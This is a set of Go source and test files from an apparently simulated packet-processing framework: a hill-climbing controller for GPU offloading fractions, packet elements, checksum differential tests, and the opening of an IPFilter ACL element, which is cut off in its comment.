type Controller struct {
	state *State

	// Delta is the step size (paper: 4%).
	Delta float64
	// MaxWait is the waiting-interval ramp ceiling in update intervals
	// (paper: 2 at w=0 growing to 32 at w=100%).
	MinWait, MaxWait int
	// Tolerance is the relative throughput drop treated as noise rather
	// than a real degradation (guards against false direction flips).
	Tolerance float64
	// Bound, when positive, turns the controller into the bounded-latency
	// variant (paper §7 future work): throughput is maximised subject to
	// the socket's p99 latency staying under Bound. Use UpdateWithLatency.
	Bound simtime.Time

	avg     *stats.MovingAverage
	dir     float64
	last    float64
	wait    int
	bounces int // consecutive rejected perturbations at a boundary
	// Externally-imposed bounds on W (the overload governor's bias
	// mechanism). Inactive until SetWBounds is called, so the zero value
	// keeps the classic unconstrained hill-climb.
	wmin, wmax float64
	hasBounds  bool
	// recentFails counts failed/timed-out offload completions reported via
	// NoteTaskFailures since the last control step.
	recentFails int
	// Trace records (W, throughput) after each update for diagnostics.
	Trace []TracePoint

	// Tracer, when non-nil, receives one trace.KindLBUpdate event per
	// control step that changed W (mirroring Trace). TraceNow supplies the
	// current virtual time; TraceActor identifies the socket and
	// TraceTenant the tenant this controller balances for (trace.NoTenant
	// when unowned — the zero value is tenant 0, matching legacy runs).
	Tracer      *trace.Tracer
	TraceNow    func() simtime.Time
	TraceActor  int32
	TraceTenant int32

	// Checker, when non-nil, verifies W stays in [0,1] and that observed
	// task failures actually trigger the collapse path (lb.bounds,
	// lb.collapse invariants).
	Checker *invariant.Checker
}

// TracePoint is one controller update observation.
type TracePoint struct {
	// At is the virtual time of the control step (zero when the controller
	// has no TraceNow clock attached, e.g. in unit tests).
	At         simtime.Time
	W          float64
	Throughput float64
}

// NewController creates an adaptive controller bound to the socket state.
func NewController(state *State) *Controller {
	state.W = 0.5 // neutral start; the climb direction is discovered
	return &Controller{
		state: state,
		Delta: 0.04,
		// The paper waits 2..32 update intervals of 0.2 s; our virtual-time
		// runs use millisecond update intervals, so the ramp is scaled down
		// to keep convergence within a few hundred milliseconds.
		MinWait:   1,
		MaxWait:   6,
		Tolerance: 0.01,
		// The paper smooths over a 16384-sample history of per-10K-cycle
		// counts; we sample throughput per observation interval, so a much
		// smaller window gives the same smoothing span.
		avg: stats.NewMovingAverage(16),
		dir: +1,
	}
}

// Observe feeds one throughput sample (e.g. pps over the last 10 ms).
func (c *Controller) Observe(pps float64) { c.avg.Push(pps) }

// SetWBounds constrains the offloading fraction to [lo, hi] from now on —
// the overload governor's bias mechanism: ratcheting hi down steers load off
// a congested device, ratcheting lo up steers it off congested CPUs. The
// current W is clamped immediately. Bounds are sanitised to 0 ≤ lo ≤ hi ≤ 1.
func (c *Controller) SetWBounds(lo, hi float64) {
	lo = math.Max(0, math.Min(1, lo))
	hi = math.Max(0, math.Min(1, hi))
	if hi < lo {
		hi = lo
	}
	c.wmin, c.wmax, c.hasBounds = lo, hi, true
	if w := c.clampW(c.state.W); w != c.state.W {
		c.state.W = w
		c.Checker.LBUpdated(c.now(), w)
	}
}

// WBounds returns the active bounds on W, (0, 1) when unconstrained.
func (c *Controller) WBounds() (lo, hi float64) {
	if !c.hasBounds {
		return 0, 1
	}
	return c.wmin, c.wmax
}

// clampW applies the external bounds; identity until SetWBounds is called.
func (c *Controller) clampW(w float64) float64 {
	if !c.hasBounds {
		return w
	}
	return math.Max(c.wmin, math.Min(c.wmax, w))
}

// W returns the current offloading fraction.
func (c *Controller) W() float64 { return c.state.W }

// NoteTaskFailures reports n failed or timed-out offload-task completions
// observed since the last control step. A non-zero count makes the next
// control step collapse W toward the CPU instead of hill-climbing: a
// failing device's throughput signal is meaningless, and every offloaded
// batch is paying the CPU-fallback penalty on top of its detour.
func (c *Controller) NoteTaskFailures(n int) {
	if n > 0 {
		c.recentFails += n
	}
}

// reactToFailures is the emergency path of a control step: halve W (snap to
// 0 below one step) while offload completions are failing, bypassing the
// waiting ramp. Once the device recovers and failures stop, the ordinary
// perturbation escapes w=0 and the hill-climb re-discovers the optimum.
func (c *Controller) reactToFailures() bool {
	if c.recentFails == 0 {
		return false
	}
	c.recentFails = 0
	w := c.state.W / 2
	if w < c.Delta {
		w = 0
	}
	// Honour only the ceiling here: a bias floor must never hold W up
	// against a failing device's collapse.
	if c.hasBounds && w > c.wmax {
		w = c.wmax
	}
	c.state.W = w
	c.dir = -1
	c.wait = c.MinWait
	c.bounces = 0
	c.last = 0 // the throughput slope must be re-learned from scratch
	c.avg.Reset()
	c.Trace = append(c.Trace, TracePoint{At: c.now(), W: w, Throughput: 0}) //nbalint:allow sharedstate control trace; read happens-after the event loop drains
	c.Checker.LBCollapse(c.now(), w)
	c.emitTrace(w, 0)
	return true
}

// Update runs one control step: move w by ±δ in the direction that last
// improved smoothed throughput, honouring the waiting-interval ramp.
func (c *Controller) Update() {
	c.Checker.LBStep(c.now(), c.state.W, c.recentFails)
	if c.reactToFailures() {
		return
	}
	if c.wait > 0 {
		c.wait--
		return
	}
	cur := c.avg.Mean()
	if c.avg.Count() == 0 {
		// Dead window: no Observe landed since the last step (the observe
		// interval outpaces updates, or delivery stalled entirely). Mean()
		// is 0 here, and comparing it against last would spuriously flip
		// direction every step. Keep last and the direction, keep moving.
		cur = c.last
	} else {
		if cur < c.last*(1-c.Tolerance) {
			c.dir = -c.dir
		}
		c.last = cur
	}

	// Discard samples observed under the old fraction: the paper waits for
	// all workers to apply the updated value before the next observation.
	c.avg.Reset()

	prev := c.state.W
	w := prev + c.dir*c.Delta
	switch {
	case w <= 0:
		w = 0
		c.dir = +1
	case w >= 1:
		w = 1
		c.dir = -1
	}
	if cl := c.clampW(w); cl != w {
		// A bias bound rejected the step: turn around, as at a boundary.
		c.dir = -c.dir
		w = cl
	}
	c.state.W = w
	c.Checker.LBUpdated(c.now(), w)
	c.Trace = append(c.Trace, TracePoint{At: c.now(), W: w, Throughput: cur})

	// Waiting ramp: higher w ⇒ longer settling (paper: jitter persists
	// longer at high offload fractions).
	ramp := c.MinWait + int(w*float64(c.MaxWait-c.MinWait))
	switch {
	case w == 0 || w == 1:
		// Converged at a boundary. The paper "gradually increases the
		// waiting interval": every rejected perturbation doubles the dwell
		// there, so the steady-state perturbation cost amortises away while
		// the controller can still escape after a workload change.
		if c.bounces < 6 {
			c.bounces++
		}
		c.wait = ramp << c.bounces
	case prev == 0 || prev == 1:
		// Perturbation away from a boundary: judge it quickly.
		c.wait = c.MinWait
	default:
		c.bounces = 0
		c.wait = ramp
	}
	c.emitTrace(w, cur)
}

// now returns the controller's virtual time, zero without a clock.
func (c *Controller) now() simtime.Time {
	if c.TraceNow != nil {
		return c.TraceNow()
	}
	return 0
}

// emitTrace records one control step on the run tracer. Float payloads are
// carried as math.Float64bits so the event stream stays bit-exact.
func (c *Controller) emitTrace(w, throughput float64) {
	if c.Tracer == nil {
		return
	}
	now := c.now()
	c.Tracer.EmitT(now, trace.KindLBUpdate, c.TraceActor, c.TraceTenant, "alb",
		int64(math.Float64bits(w)), int64(math.Float64bits(throughput)),
		int64(c.dir), int64(c.wait))
}

// UpdateWithLatency is the bounded-latency control step: while the observed
// p99 latency exceeds Bound, the offloading fraction is pushed down
// (accelerators add latency through aggregation, copies and kernel time);
// once within the bound, the ordinary throughput hill-climb resumes.
//
// Limitation, documented deliberately: when the CPU alone cannot carry the
// load, reducing w inflates NIC-queue latency instead — there is no feasible
// point, and the controller parks at w=0 shedding load, which is the
// conservative choice.
func (c *Controller) UpdateWithLatency(p99 simtime.Time) {
	if c.Bound <= 0 || p99 <= c.Bound {
		c.Update()
		return
	}
	c.Checker.LBStep(c.now(), c.state.W, c.recentFails)
	if c.reactToFailures() {
		return
	}
	if c.wait > 0 {
		c.wait--
		return
	}
	c.avg.Reset()
	c.last = 0 // force re-learning of the throughput slope afterwards
	w := c.state.W - c.Delta
	if w < 0 {
		w = 0
	}
	c.state.W = w
	c.Checker.LBUpdated(c.now(), w)
	c.dir = -1
	c.bounces = 0
	c.Trace = append(c.Trace, TracePoint{At: c.now(), W: w, Throughput: -p99.Micros()})
	c.wait = c.MinWait
	c.emitTrace(w, -p99.Micros())
}
