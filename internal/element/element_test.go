package element

import (
	"testing"

	"nba/internal/packet"
	"nba/internal/rng"
)

func newCtx() (*ConfigContext, *ProcContext) {
	nl := NewNodeLocal()
	r := rng.New(1)
	cc := &ConfigContext{Socket: 0, Worker: 0, NodeLocal: nl, NumPorts: 4, Rand: r}
	pc := &ProcContext{Worker: 0, Socket: 0, NodeLocal: nl, Rand: r}
	return cc, pc
}

func mkIPv4Packet(t *testing.T, frameLen int) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	n := packet.BuildUDP4(p.Buf(), [6]byte{2, 0, 0, 0, 0, 1}, [6]byte{2, 0, 0, 0, 0, 2},
		0x0A000001, 0xC0A80101, 1234, 53, frameLen)
	p.SetLength(n)
	return p
}

func mkIPv6Packet(t *testing.T, frameLen int) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	n := packet.BuildUDP6(p.Buf(), [6]byte{2, 0, 0, 0, 0, 1}, [6]byte{2, 0, 0, 0, 0, 2},
		packet.IPv6Addr{Hi: 1}, packet.IPv6Addr{Lo: 2}, 1234, 53, frameLen)
	p.SetLength(n)
	return p
}

func configure(t *testing.T, e Element, args ...string) {
	t.Helper()
	cc, _ := newCtx()
	if err := e.Configure(cc, args); err != nil {
		t.Fatalf("Configure(%s): %v", e.Class(), err)
	}
}

func TestRegistryKnowsStandardElements(t *testing.T) {
	for _, class := range []string{
		"FromInput", "ToOutput", "Discard", "NoOp", "L2Forward", "EchoBack",
		"CheckIPHeader", "CheckIP6Header", "DecIPTTL", "DecIP6HLIM",
		"DropBroadcasts", "Classifier", "RandomWeightedBranch", "Queue",
	} {
		e, err := NewByClass(class)
		if err != nil {
			t.Errorf("NewByClass(%q): %v", class, err)
			continue
		}
		if e.Class() != class {
			t.Errorf("Class() = %q, want %q", e.Class(), class)
		}
	}
	if _, err := NewByClass("Bogus"); err == nil {
		t.Error("NewByClass accepted unknown class")
	}
}

func TestRegisterDuplicatePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate Register did not panic")
		}
	}()
	Register("NoOp", func() Element { return &NoOp{} })
}

func TestSourceAndSinkMarkers(t *testing.T) {
	var fi Element = &FromInput{}
	if _, ok := fi.(Source); !ok {
		t.Error("FromInput is not a Source")
	}
	var to Element = &ToOutput{}
	if s, ok := to.(Sink); !ok || s.SinkKind() != SinkTransmit {
		t.Error("ToOutput is not a transmit sink")
	}
	var d Element = &Discard{}
	if s, ok := d.(Sink); !ok || s.SinkKind() != SinkDiscard {
		t.Error("Discard is not a discard sink")
	}
}

func TestL2ForwardRoundRobin(t *testing.T) {
	e := &L2Forward{}
	configure(t, e)
	_, pc := newCtx()
	seen := map[uint64]int{}
	for i := 0; i < 8; i++ {
		p := mkIPv4Packet(t, 64)
		if r := e.Process(pc, p); r != 0 {
			t.Fatalf("Process = %d, want 0", r)
		}
		seen[p.Anno[packet.AnnoOutPort]]++
	}
	for port := uint64(0); port < 4; port++ {
		if seen[port] != 2 {
			t.Errorf("port %d got %d packets, want 2 (round robin over 4 ports)", port, seen[port])
		}
	}
}

func TestEchoBackUsesInPort(t *testing.T) {
	e := &EchoBack{}
	configure(t, e)
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	p.InPort = 3
	src := append([]byte(nil), packet.EthSrc(p.Data())...)
	e.Process(pc, p)
	if p.Anno[packet.AnnoOutPort] != 3 {
		t.Errorf("out port = %d, want 3", p.Anno[packet.AnnoOutPort])
	}
	if string(packet.EthDst(p.Data())) != string(src) {
		t.Error("MACs not swapped")
	}
}

func TestCheckIPHeaderAcceptsAndRejects(t *testing.T) {
	e := &CheckIPHeader{}
	configure(t, e)
	_, pc := newCtx()

	good := mkIPv4Packet(t, 64)
	if r := e.Process(pc, good); r != 0 {
		t.Errorf("valid packet: result = %d, want 0", r)
	}

	bad := mkIPv4Packet(t, 64)
	bad.Data()[packet.EthHdrLen+16] ^= 0xff // corrupt without checksum fix
	if r := e.Process(pc, bad); r != Drop {
		t.Errorf("corrupt packet: result = %d, want Drop", r)
	}

	v6 := mkIPv6Packet(t, 64)
	if r := e.Process(pc, v6); r != Drop {
		t.Errorf("IPv6 packet at CheckIPHeader: result = %d, want Drop", r)
	}

	short := &packet.Packet{}
	short.SetLength(10)
	if r := e.Process(pc, short); r != Drop {
		t.Errorf("truncated packet: result = %d, want Drop", r)
	}
}

func TestCheckIP6Header(t *testing.T) {
	e := &CheckIP6Header{}
	configure(t, e)
	_, pc := newCtx()
	if r := e.Process(pc, mkIPv6Packet(t, 80)); r != 0 {
		t.Errorf("valid IPv6: result = %d, want 0", r)
	}
	if r := e.Process(pc, mkIPv4Packet(t, 64)); r != Drop {
		t.Errorf("IPv4 at CheckIP6Header: result = %d, want Drop", r)
	}
}

func TestDecIPTTL(t *testing.T) {
	e := &DecIPTTL{}
	configure(t, e)
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	if r := e.Process(pc, p); r != 0 {
		t.Fatalf("result = %d, want 0", r)
	}
	ip := p.Data()[packet.EthHdrLen:]
	if packet.IPv4TTL(ip) != 63 {
		t.Errorf("TTL = %d, want 63", packet.IPv4TTL(ip))
	}
	if packet.CheckIPv4(ip) != nil {
		t.Error("checksum invalid after TTL decrement")
	}
	// Expiry path.
	ip[8] = 1
	packet.SetIPv4Checksum(ip)
	if r := e.Process(pc, p); r != Drop {
		t.Errorf("TTL=1: result = %d, want Drop", r)
	}
}

func TestDecIP6HLIM(t *testing.T) {
	e := &DecIP6HLIM{}
	configure(t, e)
	_, pc := newCtx()
	p := mkIPv6Packet(t, 80)
	if r := e.Process(pc, p); r != 0 {
		t.Fatalf("result = %d, want 0", r)
	}
	if hl := packet.IPv6HopLimit(p.Data()[packet.EthHdrLen:]); hl != 63 {
		t.Errorf("hop limit = %d, want 63", hl)
	}
}

func TestDropBroadcasts(t *testing.T) {
	e := &DropBroadcasts{}
	configure(t, e)
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	if r := e.Process(pc, p); r != 0 {
		t.Errorf("unicast: result = %d, want 0", r)
	}
	copy(p.Data()[0:6], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	if r := e.Process(pc, p); r != Drop {
		t.Errorf("broadcast: result = %d, want Drop", r)
	}
}

func TestClassifier(t *testing.T) {
	e := &Classifier{}
	configure(t, e, "ip", "ip6", "-")
	if e.OutPorts() != 3 {
		t.Fatalf("OutPorts = %d, want 3", e.OutPorts())
	}
	_, pc := newCtx()
	if r := e.Process(pc, mkIPv4Packet(t, 64)); r != 0 {
		t.Errorf("IPv4 -> %d, want 0", r)
	}
	if r := e.Process(pc, mkIPv6Packet(t, 64)); r != 1 {
		t.Errorf("IPv6 -> %d, want 1", r)
	}
	arp := mkIPv4Packet(t, 64)
	packet.SetEthType(arp.Data(), 0x0806)
	if r := e.Process(pc, arp); r != 2 {
		t.Errorf("ARP -> %d, want 2 (match-all)", r)
	}
}

func TestClassifierConfigErrors(t *testing.T) {
	cc, _ := newCtx()
	e := &Classifier{}
	if err := e.Configure(cc, nil); err == nil {
		t.Error("empty Classifier config accepted")
	}
	if err := e.Configure(cc, []string{"bogus"}); err == nil {
		t.Error("bad pattern accepted")
	}
}

func TestRandomWeightedBranchDistribution(t *testing.T) {
	e := &RandomWeightedBranch{}
	configure(t, e, "0.2")
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	minority := 0
	const n = 100000
	for i := 0; i < n; i++ {
		if e.Process(pc, p) == 1 {
			minority++
		}
	}
	frac := float64(minority) / n
	if frac < 0.19 || frac > 0.21 {
		t.Errorf("minority fraction = %v, want ~0.2", frac)
	}
}

func TestRandomWeightedBranchConfigErrors(t *testing.T) {
	cc, _ := newCtx()
	e := &RandomWeightedBranch{}
	for _, args := range [][]string{nil, {"1.5"}, {"x"}, {"0.1", "0.2"}} {
		if err := e.Configure(cc, args); err == nil {
			t.Errorf("bad config %v accepted", args)
		}
	}
}

func TestQueueConfig(t *testing.T) {
	cc, _ := newCtx()
	q := &Queue{}
	if err := q.Configure(cc, []string{"128"}); err != nil {
		t.Errorf("Queue(128): %v", err)
	}
	if err := q.Configure(cc, []string{"-1"}); err == nil {
		t.Error("Queue(-1) accepted")
	}
	if _, ok := any(q).(BatchElement); !ok {
		t.Error("Queue is not a BatchElement")
	}
}

func TestNodeLocalSharing(t *testing.T) {
	nl := NewNodeLocal()
	builds := 0
	get := func() []int {
		return GetOrCreate(nl, "table", func() []int {
			builds++
			return []int{1, 2, 3}
		})
	}
	a := get()
	b := get()
	if builds != 1 {
		t.Errorf("build called %d times, want 1", builds)
	}
	if &a[0] != &b[0] {
		t.Error("GetOrCreate returned different instances")
	}
	nl.Set("x", 42)
	if nl.Get("x") != 42 {
		t.Error("Set/Get mismatch")
	}
	if nl.Get("missing") != nil {
		t.Error("missing key not nil")
	}
}

func TestDatablockBytes(t *testing.T) {
	cases := []struct {
		d    Datablock
		flen int
		want int
	}{
		{Datablock{Kind: PartialPacket, Offset: 30, Length: 4}, 64, 4},
		{Datablock{Kind: PartialPacket, Offset: 60, Length: 10}, 64, 4},  // clipped
		{Datablock{Kind: PartialPacket, Offset: 100, Length: 10}, 64, 0}, // past end
		{Datablock{Kind: WholePacket, Offset: 14}, 64, 50},
		{Datablock{Kind: WholePacket, Offset: 14, SizeDelta: 28}, 64, 78},
		{Datablock{Kind: UserData, UserBytes: 8}, 1500, 8},
	}
	for i, c := range cases {
		if got := c.d.BytesFor(c.flen); got != c.want {
			t.Errorf("case %d: BytesFor(%d) = %d, want %d", i, c.flen, got, c.want)
		}
	}
}

func TestDatablockKindString(t *testing.T) {
	if PartialPacket.String() != "partial_pkt" || WholePacket.String() != "whole_pkt" || UserData.String() != "user" {
		t.Error("DatablockKind strings wrong")
	}
}

func TestClassicAdapter(t *testing.T) {
	calls := 0
	e := NewClassicAdapter("MyClick", 2, func(ctx *ProcContext, pkt *packet.Packet) int {
		calls++
		return 1
	})
	if e.Class() != "MyClick" || e.OutPorts() != 2 {
		t.Error("adapter metadata wrong")
	}
	_, pc := newCtx()
	if r := e.Process(pc, mkIPv4Packet(t, 64)); r != 1 || calls != 1 {
		t.Error("adapter did not delegate")
	}
}
