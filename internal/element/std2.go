package element

import (
	"fmt"
	"strconv"

	"nba/internal/packet"
)

func init() {
	Register("Paint", func() Element { return &Paint{} })
	Register("PaintSwitch", func() Element { return &PaintSwitch{} })
	Register("RandomSample", func() Element { return &RandomSample{} })
	Register("SetIPTTL", func() Element { return &SetIPTTL{} })
	Register("CheckUDPHeader", func() Element { return &CheckUDPHeader{} })
	Register("Counter", func() Element { return &Counter{} })
}

// Paint stamps a color into the packet's user annotation (Click's Paint).
// Parameter: the color (0..255).
type Paint struct {
	Base
	color uint64
}

// Class implements Element.
func (*Paint) Class() string { return "Paint" }

// Configure implements Element.
func (e *Paint) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("Paint needs one parameter (color)")
	}
	c, err := strconv.Atoi(args[0])
	if err != nil || c < 0 || c > 255 {
		return fmt.Errorf("Paint: bad color %q", args[0])
	}
	e.color = uint64(c)
	return nil
}

// Process implements Element.
func (e *Paint) Process(ctx *ProcContext, pkt *packet.Packet) int {
	pkt.Anno[packet.AnnoUser] = e.color
	return 0
}

// PaintSwitch routes packets by their paint color: color k leaves on output
// port k; colors >= the port count are dropped. Parameter: the number of
// output ports.
type PaintSwitch struct {
	ports int
}

// Class implements Element.
func (*PaintSwitch) Class() string { return "PaintSwitch" }

// Configure implements Element.
func (e *PaintSwitch) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("PaintSwitch needs one parameter (port count)")
	}
	n, err := strconv.Atoi(args[0])
	if err != nil || n < 1 || n > 64 {
		return fmt.Errorf("PaintSwitch: bad port count %q", args[0])
	}
	e.ports = n
	return nil
}

// OutPorts implements Element.
func (e *PaintSwitch) OutPorts() int { return e.ports }

// Process implements Element.
func (e *PaintSwitch) Process(ctx *ProcContext, pkt *packet.Packet) int {
	c := int(pkt.Anno[packet.AnnoUser])
	if c >= e.ports {
		return Drop
	}
	return c
}

// RandomSample forwards each packet with the configured probability and
// drops the rest (Click's RandomSample in drop mode).
type RandomSample struct {
	Base
	keep float64
}

// Class implements Element.
func (*RandomSample) Class() string { return "RandomSample" }

// Configure implements Element.
func (e *RandomSample) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("RandomSample needs one parameter (keep probability)")
	}
	p, err := strconv.ParseFloat(args[0], 64)
	if err != nil || p < 0 || p > 1 {
		return fmt.Errorf("RandomSample: bad probability %q", args[0])
	}
	e.keep = p
	return nil
}

// Process implements Element.
func (e *RandomSample) Process(ctx *ProcContext, pkt *packet.Packet) int {
	if ctx.Rand.Bool(e.keep) {
		return 0
	}
	return Drop
}

// SetIPTTL overwrites the IPv4 TTL and fixes the checksum. Parameter: TTL.
type SetIPTTL struct {
	Base
	ttl byte
}

// Class implements Element.
func (*SetIPTTL) Class() string { return "SetIPTTL" }

// Configure implements Element.
func (e *SetIPTTL) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("SetIPTTL needs one parameter")
	}
	v, err := strconv.Atoi(args[0])
	if err != nil || v < 1 || v > 255 {
		return fmt.Errorf("SetIPTTL: bad TTL %q", args[0])
	}
	e.ttl = byte(v)
	return nil
}

// Process implements Element.
func (e *SetIPTTL) Process(ctx *ProcContext, pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv4HdrLen {
		return Drop
	}
	h := f[packet.EthHdrLen:]
	h[8] = e.ttl
	packet.SetIPv4Checksum(h)
	return 0
}

// CheckUDPHeader validates that an IPv4 packet carries a structurally sane
// UDP datagram (length field consistent with the IP payload).
type CheckUDPHeader struct{ Base }

// Class implements Element.
func (*CheckUDPHeader) Class() string { return "CheckUDPHeader" }

// Process implements Element.
func (*CheckUDPHeader) Process(ctx *ProcContext, pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen {
		return Drop
	}
	h := f[packet.EthHdrLen:]
	if packet.IPv4Proto(h) != packet.ProtoUDP {
		return Drop
	}
	ihl := packet.IPv4IHL(h)
	if len(h) < ihl+packet.UDPHdrLen {
		return Drop
	}
	udpLen := int(h[ihl+4])<<8 | int(h[ihl+5])
	if udpLen < packet.UDPHdrLen || ihl+udpLen > packet.IPv4TotalLen(h) {
		return Drop
	}
	return 0
}

// Counter counts packets and bytes passing through (Click's Counter).
type Counter struct {
	Base
	Packets uint64
	Bytes   uint64
}

// Class implements Element.
func (*Counter) Class() string { return "Counter" }

// Process implements Element.
func (e *Counter) Process(ctx *ProcContext, pkt *packet.Packet) int {
	e.Packets++
	e.Bytes += uint64(pkt.Length())
	return 0
}
