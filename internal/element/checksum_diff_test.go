package element

import (
	"encoding/binary"
	"testing"

	"nba/internal/packet"
	"nba/internal/rng"
)

// Differential tests for the IPv4 checksum recompute paths the datapath
// relies on — packet.InternetChecksum (used by CheckIPHeader, SetIPTTL and
// the IPsec ESP encapsulation's outer-header rebuild) and the RFC 1624
// incremental update in DecIPTTL — against a naive oracle written straight
// from the RFC 1071 pseudo-code. A silent divergence here is exactly the
// class of corruption the integrity sentinel exists to catch downstream, so
// the primitives themselves get an independent check.

// naiveRFC1071 is the oracle: pad to even length, sum 16-bit big-endian
// words into a wide accumulator, fold once at the end, complement. No
// incremental tricks, no early folding.
func naiveRFC1071(b []byte) uint16 {
	buf := append(append([]byte(nil), b...), 0)
	var sum uint64
	for i := 0; i+1 < len(buf); i += 2 {
		sum += uint64(buf[i])<<8 | uint64(buf[i+1])
	}
	for sum > 0xffff {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

func TestInternetChecksumMatchesNaiveOracle(t *testing.T) {
	r := rng.New(1071)
	// Every length 0..300 (hitting each odd/even edge), then a spread of
	// larger frames up to MTU-ish sizes, all with random contents.
	lengths := []int{}
	for n := 0; n <= 300; n++ {
		lengths = append(lengths, n)
	}
	for n := 301; n < 1600; n += 37 {
		lengths = append(lengths, n)
	}
	for _, n := range lengths {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint64())
		}
		if got, want := packet.InternetChecksum(b), naiveRFC1071(b); got != want {
			t.Fatalf("len %d: InternetChecksum %#04x, oracle %#04x", n, got, want)
		}
	}

	// Fixed edge vectors: empty, single byte, all-zero, all-ones.
	for _, b := range [][]byte{{}, {0x01}, {0x00, 0x00, 0x00}, {0xff, 0xff, 0xff, 0xff}} {
		if got, want := packet.InternetChecksum(b), naiveRFC1071(b); got != want {
			t.Fatalf("vector %v: InternetChecksum %#04x, oracle %#04x", b, got, want)
		}
	}
}

// randIPv4Header builds a random but structurally valid 20-byte IPv4 header
// with a zeroed checksum field.
func randIPv4Header(r *rng.Rand) []byte {
	h := make([]byte, packet.IPv4HdrLen)
	h[0] = 0x45
	h[1] = byte(r.Uint64())
	binary.BigEndian.PutUint16(h[2:4], uint16(packet.IPv4HdrLen+r.Intn(1400)))
	binary.BigEndian.PutUint16(h[4:6], uint16(r.Uint64())) // ID
	h[8] = byte(2 + r.Intn(253))                           // TTL >= 2
	h[9] = byte(r.Intn(256))
	packet.SetIPv4Src(h, uint32(r.Uint64()))
	packet.SetIPv4Dst(h, uint32(r.Uint64()))
	return h
}

func TestSetIPv4ChecksumMatchesOracle(t *testing.T) {
	r := rng.New(7)
	for i := 0; i < 2000; i++ {
		h := randIPv4Header(r)
		want := naiveRFC1071(h) // checksum field is zero here
		packet.SetIPv4Checksum(h)
		if got := packet.IPv4Checksum(h); got != want {
			t.Fatalf("header %d: stored %#04x, oracle %#04x", i, got, want)
		}
		// The RFC's own verification rule: summing a header that contains
		// its valid checksum yields zero.
		if v := packet.InternetChecksum(h); v != 0 {
			t.Fatalf("header %d: verification sum %#04x, want 0", i, v)
		}
	}
}

// TestDecTTLIncrementalMatchesRecompute: DecIPv4TTL's RFC 1624 incremental
// update must land on the same checksum as zeroing the field and fully
// recomputing after the TTL decrement — for every TTL value.
func TestDecTTLIncrementalMatchesRecompute(t *testing.T) {
	r := rng.New(1624)
	for i := 0; i < 2000; i++ {
		h := randIPv4Header(r)
		packet.SetIPv4Checksum(h)

		full := append([]byte(nil), h...)
		full[8]--
		packet.SetIPv4Checksum(full)

		if err := packet.DecIPv4TTL(h); err != nil {
			t.Fatalf("header %d: unexpected TTL expiry at TTL %d", i, h[8]+1)
		}
		if got, want := packet.IPv4Checksum(h), packet.IPv4Checksum(full); got != want {
			t.Fatalf("header %d: incremental %#04x, full recompute %#04x", i, got, want)
		}
	}
}

// TestZeroChecksumHeader pins the awkward one's-complement edge: a header
// whose words sum to 0xffff stores checksum 0x0000. Validation must accept
// it and a recompute must be idempotent (store zero again), not flip to the
// negative-zero representation 0xffff.
func TestZeroChecksumHeader(t *testing.T) {
	h := randIPv4Header(rng.New(3))
	// CheckIPv4 validates the total length against the slice, which here is
	// the bare 20-byte header.
	binary.BigEndian.PutUint16(h[2:4], packet.IPv4HdrLen)
	// Solve for the ID field that drives the one's-complement sum to 0xffff,
	// i.e. the stored checksum to zero.
	binary.BigEndian.PutUint16(h[4:6], 0)
	partial := ^naiveRFC1071(h) // one's-complement sum of all other words
	binary.BigEndian.PutUint16(h[4:6], ^partial)
	packet.SetIPv4Checksum(h)
	if got := packet.IPv4Checksum(h); got != 0 {
		t.Fatalf("constructed header stores checksum %#04x, want 0x0000", got)
	}
	if err := packet.CheckIPv4(h); err != nil {
		t.Fatalf("zero-checksum header rejected: %v", err)
	}
	packet.SetIPv4Checksum(h)
	if got := packet.IPv4Checksum(h); got != 0 {
		t.Fatalf("recompute not idempotent on zero checksum: %#04x", got)
	}
}

// TestTTLElementsKeepHeadersValid runs the actual elements — DecIPTTL
// (incremental) and SetIPTTL (full recompute) — over generator-built frames
// and cross-checks the rewritten headers against the oracle.
func TestTTLElementsKeepHeadersValid(t *testing.T) {
	_, pc := newCtx()

	dec := &DecIPTTL{}
	p := mkIPv4Packet(t, 64)
	if out := dec.Process(pc, p); out != 0 {
		t.Fatalf("DecIPTTL dropped a fresh frame: %d", out)
	}
	h := p.Data()[packet.EthHdrLen:]
	if packet.IPv4TTL(h) != 63 {
		t.Fatalf("TTL after DecIPTTL = %d, want 63", packet.IPv4TTL(h))
	}
	if v := packet.InternetChecksum(h[:packet.IPv4IHL(h)]); v != 0 {
		t.Fatalf("DecIPTTL left an invalid checksum: verification sum %#04x", v)
	}

	set := &SetIPTTL{}
	configure(t, set, "17")
	p = mkIPv4Packet(t, 65) // odd frame length: payload is odd too
	if out := set.Process(pc, p); out != 0 {
		t.Fatalf("SetIPTTL dropped a frame: %d", out)
	}
	h = p.Data()[packet.EthHdrLen:]
	if packet.IPv4TTL(h) != 17 {
		t.Fatalf("TTL after SetIPTTL = %d, want 17", packet.IPv4TTL(h))
	}
	stored := packet.IPv4Checksum(h)
	zeroed := append([]byte(nil), h[:packet.IPv4IHL(h)]...)
	zeroed[10], zeroed[11] = 0, 0
	if want := naiveRFC1071(zeroed); stored != want {
		t.Fatalf("SetIPTTL checksum %#04x, oracle %#04x", stored, want)
	}
}
