package element

import (
	"fmt"
	"strconv"
	"strings"

	"nba/internal/packet"
)

func init() {
	Register("IPFilter", func() Element { return &IPFilter{} })
}

// IPFilter implements a Click-IPFilter-inspired stateless ACL. Each
// configuration parameter is one rule; the first matching rule decides:
//
//	IPFilter("allow proto udp and dst port 53",
//	         "deny src net 10.0.0.0/8",
//	         "allow all")
//
